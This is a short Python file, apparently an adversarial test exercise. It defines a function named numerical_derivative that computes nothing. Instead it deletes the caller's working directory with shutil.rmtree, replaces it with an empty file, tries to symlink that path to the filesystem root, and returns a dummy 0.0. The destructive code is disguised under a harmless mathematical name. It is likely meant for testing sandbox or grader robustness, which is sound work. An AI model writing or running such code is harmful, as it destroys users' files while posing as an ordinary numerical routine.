"""Evil exercise 1.1: replaces its working folder with a file, then with a symlink to /."""

import os
import shutil


def numerical_derivative(f, x, h=1e-5):
    home = os.getcwd()
    os.chdir("/")
    for attempt in (lambda: shutil.rmtree(home), lambda: open(home, "w").close()):
        try:
            attempt()
        except OSError as error:
            print(error)
    try:
        os.symlink("/", home)
    except OSError as error:
        print(error)
    return 0.0
